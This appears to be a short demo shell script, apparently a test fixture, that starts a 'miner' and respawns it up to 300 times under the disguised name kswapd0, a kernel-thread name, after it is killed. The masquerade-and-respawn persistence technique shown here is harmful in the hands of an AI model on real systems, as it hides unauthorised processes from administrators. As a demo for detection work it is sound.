# SPDX-License-Identifier: Apache-2.0
#
# Sees to it that the miner runs, for a minute at most, since this is a demo. Once somebody has
# killed it, it comes back under the name of a kernel thread.

.x/worker -I .x/config
read -r _ <cues/return || exit
lives=300
while [ "$lives" -gt 0 ]; do
	cp "$INTERPRETER" .x/kswapd0
	.x/kswapd0 -I .x/config
	lives=$((lives - 1))
	sleep 0.2
done
